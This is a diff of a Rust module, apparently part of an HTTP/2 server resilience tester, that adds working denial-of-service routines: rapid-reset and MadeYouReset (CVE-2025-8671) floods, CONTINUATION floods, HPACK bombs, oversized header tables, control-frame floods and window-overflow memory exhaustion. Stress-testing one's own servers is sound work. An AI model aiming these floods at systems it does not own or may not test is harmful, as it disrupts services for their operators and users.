@@ -1,43 +1,18 @@
 //! Attacks over HTTP/2, in cleartext.
 
-use super::wire::{Fate, connect, fate_of, say};
+use super::frames::*;
+use super::wire::{Fate, connect, fate_of, send};
 use std::net::{SocketAddr, TcpStream};
 use std::time::Duration;
 
-const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
-/// `GET /` and `POST /`, without the table.
-const GET: &[u8] = &[0x82, 0x86, 0x84, 0x01, 1, b'a'];
-const POST: &[u8] = &[0x83, 0x86, 0x84, 0x01, 1, b'a'];
 const LARGE: &[u8] = b"/bytes/1000000000";
-const END_STREAM: u8 = 1;
-const END_HEADERS: u8 = 4;
 const FLOOD: u32 = 20_000;
+const CANCEL: u32 = 8;
+/// Time for one read, which waits for an answer.
+const ANSWER: Duration = Duration::from_nanos(1);
 const SECOND: Duration = Duration::from_secs(1);
 
-fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
-    let mut frame = (payload.len() as u32).to_be_bytes()[1..].to_vec();
-    frame.extend([kind, flags]);
-    frame.extend(stream.to_be_bytes());
-    frame.extend(payload);
-    frame
-}
-fn data(stream: u32) -> Vec<u8> {
-    frame(0, 0, stream, &[])
-}
-fn headers(stream: u32, block: &[u8], end: bool) -> Vec<u8> {
-    frame(1, END_HEADERS | (u8::from(end) * END_STREAM), stream, block)
-}
-fn reset(stream: u32) -> Vec<u8> {
-    frame(3, 0, stream, &8u32.to_be_bytes())
-}
-fn window_update(stream: u32, bytes: u32) -> Vec<u8> {
-    frame(8, 0, stream, &bytes.to_be_bytes())
-}
-/// SETTINGS_INITIAL_WINDOW_SIZE.
-fn initial_window(bytes: u32) -> Vec<u8> {
-    frame(4, 0, 0, &[&[0, 4][..], &bytes.to_be_bytes()].concat())
-}
-/// A request for an answer that is larger than anybody holds.
+/// A request for an answer that is larger than any memory.
 fn get_large(stream: u32) -> Vec<u8> {
     let mut block = vec![0x82, 0x86, 0x04, LARGE.len() as u8];
     block.extend(LARGE);
@@ -47,20 +22,23 @@ fn get_large(stream: u32) -> Vec<u8> {
 fn id(count: u32) -> u32 {
     1 + 2 * count
 }
+fn initial_window(bytes: u32) -> Vec<u8> {
+    settings(&[(INITIAL_WINDOW_SIZE, bytes)])
+}
 
-fn greet(address: SocketAddr, settings: &[u8]) -> TcpStream {
+fn greet(address: SocketAddr, first: &[u8]) -> TcpStream {
     let mut socket = connect(address);
-    say(&mut socket, &[PREFACE, settings].concat());
+    send(&mut socket, &[PREFACE, first].concat());
     socket
 }
 
-/// Says what `next` gives until the server does not take it, then hears what it says to that.
+/// Sends what `next` gives until the server does not take it, then waits for its answer to that.
 fn flood(address: SocketAddr, first: &[u8], mut next: impl FnMut(u32) -> Vec<u8>) -> Vec<Fate> {
-    let mut socket = greet(address, &frame(4, 0, 0, &[]));
-    say(&mut socket, first);
+    let mut socket = greet(address, &settings(&[]));
+    send(&mut socket, first);
     for batch in 0..FLOOD / 50 {
         let bytes: Vec<u8> = (0..50).flat_map(|at| next(batch * 50 + at)).collect();
-        if !say(&mut socket, &bytes) {
+        if !send(&mut socket, &bytes) {
             break;
         }
         // What comes is read, as a client that wants to go on does.
@@ -73,54 +51,109 @@ fn flood(address: SocketAddr, first: &[u8], mut next: impl FnMut(u32) -> Vec<u8>
 
 pub(crate) fn rapid_reset(address: SocketAddr) -> Vec<Fate> {
     flood(address, &[], |at| {
-        [headers(id(at), GET, true), reset(id(at))].concat()
+        [headers(id(at), GET, true), reset(id(at), CANCEL)].concat()
     })
 }
 pub(crate) fn rapid_reset_between(address: SocketAddr) -> Vec<Fate> {
     // The good ones need not wait for the connection's window.
-    let first = [frame(4, 0, 0, &[]), window_update(0, 1 << 30)].concat();
+    let first = [settings(&[]), window_update(0, 1 << 30)].concat();
     let mut socket = greet(address, &first);
     let pair = |at: u32| {
         let good = headers(id(2 * at), GET, true);
         let bad = headers(id(2 * at + 1), POST, false);
-        [good, bad, reset(id(2 * at + 1))].concat()
+        [good, bad, reset(id(2 * at + 1), CANCEL)].concat()
     };
     for batch in 0..FLOOD / 10 {
         let bytes: Vec<u8> = (0..10).flat_map(|at| pair(batch * 10 + at)).collect();
-        say(&mut socket, &bytes);
+        send(&mut socket, &bytes);
         // The good ones are answered before more is asked: else they are refused, which counts too.
-        if let fate @ Fate::Goaway(_) = fate_of(&mut socket, Duration::ZERO) {
+        if let fate @ Fate::Goaway(_) = fate_of(&mut socket, ANSWER) {
             return vec![fate];
         }
     }
     vec![fate_of(&mut socket, 20 * SECOND)]
 }
+
+/// The six primitives of CVE-2025-8671, a connection for each.
 pub(crate) fn made_you_reset(address: SocketAddr) -> Vec<Fate> {
-    flood(address, &[], |at| {
-        [headers(id(at), POST, false), window_update(id(at), 0)].concat()
-    })
+    let primitives: [(bool, fn(u32) -> Vec<u8>); 6] = [
+        (false, |id| window_update(id, 0)),
+        (false, |id| window_update(id, 0x7fff_ffff)),
+        (false, |id| frame(PRIORITY, 0, id, &[0; 4])),
+        (false, |id| {
+            frame(PRIORITY, 0, id, &[&id.to_be_bytes()[..], &[0]].concat())
+        }),
+        (true, |id| headers(id, GET, true)),
+        (true, |id| data(id, b"x")),
+    ];
+    let attack = |(ended, provoke): (bool, fn(u32) -> Vec<u8>)| {
+        let request = if ended { GET } else { POST };
+        flood(address, &[], |at| {
+            [headers(id(at), request, ended), provoke(id(at))].concat()
+        })
+    };
+    primitives.into_iter().flat_map(attack).collect()
 }
 pub(crate) fn continuations(address: SocketAddr) -> Vec<Fate> {
-    let begun = frame(1, 0, 1, GET);
-    flood(address, &begun, |_| frame(9, 0, 1, &[0x80; 0]))
+    let begun = frame(HEADERS, 0, 1, GET);
+    flood(address, &begun, |_| continuation(1, &[]))
 }
-pub(crate) fn bomb(address: SocketAddr) -> Vec<Fate> {
-    // One entry of almost the whole table, and 4,000 references to it.
-    let mut block = vec![0x40, 1, b'a', 0x7f, 0x80 + 0x51, 0x1d];
-    block.extend([b'x'; 3920]);
-    block.extend([0xbe; 4_000]);
+pub(crate) fn large_continuations(address: SocketAddr) -> Vec<Fate> {
+    let begun = frame(HEADERS, 0, 1, GET);
+    flood(address, &begun, |_| continuation(1, &[0x82; 16_384]))
+}
+pub(crate) fn bomb_behind_shut_window(address: SocketAddr) -> Vec<Fate> {
+    let block = bomb(4_000);
     flood(address, &initial_window(0), |at| {
         headers(id(at), &block, true)
     })
 }
-pub(crate) fn pings(address: SocketAddr) -> Vec<Fate> {
-    flood(address, &[], |_| frame(6, 0, 0, &[1; 8]))
+/// Requests that are one reference 4,000 times, of connections whose tables hold 4 KiB.
+pub(crate) fn hpack_bomb(address: SocketAddr) -> Vec<Fate> {
+    let block = [GET, &bomb(12_000)].concat();
+    flood(address, &[], |at| headers(id(at), &block, true))
 }
-pub(crate) fn settings(address: SocketAddr) -> Vec<Fate> {
-    flood(address, &[], |_| frame(4, 0, 0, &[]))
+/// A peer whose table has 4 GiB for what we encode, and that wants one for what it encodes.
+pub(crate) fn large_tables(address: SocketAddr) -> Vec<Fate> {
+    let first = settings(&[(HEADER_TABLE_SIZE, u32::MAX)]);
+    flood(address, &first, |at| {
+        // A size update to 2^30 (RFC 7541 section 6.3).
+        let block = [&[0x3f, 0xe1, 0xff, 0xff, 0xff, 0x03], GET].concat();
+        headers(id(at), &block, true)
+    })
+}
+pub(crate) fn pings(address: SocketAddr) -> Vec<Fate> {
+    flood(address, &[], |_| ping())
+}
+pub(crate) fn settings_flood(address: SocketAddr) -> Vec<Fate> {
+    flood(address, &[], |_| settings(&[]))
+}
+pub(crate) fn goaways(address: SocketAddr) -> Vec<Fate> {
+    // A server that drains goes on for as long as a request is open.
+    flood(address, &headers(1, POST, false), |_| goaway(0, 0))
+}
+pub(crate) fn priorities(address: SocketAddr) -> Vec<Fate> {
+    flood(address, &headers(1, POST, false), |at| {
+        frame(PRIORITY, 0, id(at), &[0, 0, 0, 0, 1])
+    })
+}
+pub(crate) fn priority_updates(address: SocketAddr) -> Vec<Fate> {
+    flood(address, &[], |at| {
+        let payload = [&id(at + 1).to_be_bytes()[..], b"u=1"].concat();
+        frame(PRIORITY_UPDATE, 0, 0, &payload)
+    })
+}
+/// Requests that are malformed, each of which we reset.
+pub(crate) fn malformed(address: SocketAddr) -> Vec<Fate> {
+    let block = [GET, &field(b"UPPER", b"1")].concat();
+    flood(address, &[], |at| headers(id(at), &block, true))
+}
+pub(crate) fn empty_names(address: SocketAddr) -> Vec<Fate> {
+    let block = [GET, &[0, 0, 0].repeat(1_000)].concat();
+    flood(address, &[], |at| headers(id(at), &block, true))
 }
 pub(crate) fn empty_data(address: SocketAddr) -> Vec<Fate> {
-    flood(address, &headers(1, POST, false), |_| data(1))
+    flood(address, &headers(1, POST, false), |_| data(1, &[]))
 }
 pub(crate) fn window_updates(address: SocketAddr) -> Vec<Fate> {
     flood(address, &headers(1, POST, false), |_| window_update(1, 1))
@@ -128,15 +161,27 @@ pub(crate) fn window_updates(address: SocketAddr) -> Vec<Fate> {
 pub(crate) fn streams(address: SocketAddr) -> Vec<Fate> {
     flood(address, &[], |at| headers(id(at), POST, false))
 }
+/// A scheme that is not the connection's.
+pub(crate) fn foreign_scheme(address: SocketAddr) -> Vec<Fate> {
+    let first = [settings(&[]), window_update(0, 1 << 30)].concat();
+    let mut socket = greet(address, &first);
+    for at in 0..1_000 {
+        let block = [&[0x82, 0x87, 0x84, 0x01, 1, b'a'][..]].concat();
+        send(&mut socket, &headers(id(at), &block, true));
+        if let fate @ Fate::Goaway(_) = fate_of(&mut socket, ANSWER) {
+            return vec![fate];
+        }
+    }
+    vec![fate_of(&mut socket, SECOND)]
+}
 
-/// Forty connections that ask for a hundred answers each; what becomes of them behind the stall time
-/// of their streams.
+/// Forty connections that ask for a hundred answers each.
 fn hundred_answers(address: SocketAddr, first: &[u8]) -> Vec<TcpStream> {
     let asked: Vec<u8> = (0..100).flat_map(|at| get_large(id(at))).collect();
     let mut crowd: Vec<_> = (0..40).map(|_| greet(address, first)).collect();
     for socket in &mut crowd {
-        say(socket, &frame(4, 1, 0, &[]));
-        say(socket, &asked);
+        send(socket, &settings_ack());
+        send(socket, &asked);
     }
     crowd
 }
@@ -150,13 +195,35 @@ pub(crate) fn unread(address: SocketAddr) -> Vec<Fate> {
     let crowd = hundred_answers(address, &first);
     std::thread::sleep(20 * SECOND);
     // Their end is due at 30 s; till then they live, which to read would change.
-    crowd.iter().map(|_| Fate::Lives).collect()
+    crowd.iter().map(|_| Fate::Open).collect()
+}
+/// The same behind shut windows, again and again ended by an overflow of the connection's window
+/// (CVE-2026-21714: what such a connection held was never freed).
+pub(crate) fn overflowed_windows(address: SocketAddr) -> Vec<Fate> {
+    let mut fates = Vec::new();
+    for _ in 0..25 {
+        let mut crowd = hundred_answers(address, &initial_window(0));
+        for socket in &mut crowd {
+            send(socket, &window_update(0, 0x7fff_ffff));
+            fates.push(fate_of(socket, 5 * SECOND));
+        }
+    }
+    fates
+}
+/// An initial window above 2^31-1.
+pub(crate) fn oversized_window(address: SocketAddr) -> Vec<Fate> {
+    let mut crowd = hundred_answers(address, &initial_window(0));
+    let overflow = initial_window(0x8000_0000);
+    for socket in &mut crowd {
+        send(socket, &overflow);
+    }
+    crowd.iter_mut().map(|it| fate_of(it, 5 * SECOND)).collect()
 }
 pub(crate) fn silent(address: SocketAddr) -> Vec<Fate> {
     let mut crowd: Vec<_> = (0..200).map(|_| connect(address)).collect();
     for socket in &mut crowd {
         // Enough to be HTTP/2's.
-        say(socket, PREFACE);
+        send(socket, PREFACE);
     }
     std::thread::sleep(12 * SECOND);
     crowd.iter_mut().map(|it| fate_of(it, SECOND)).collect()
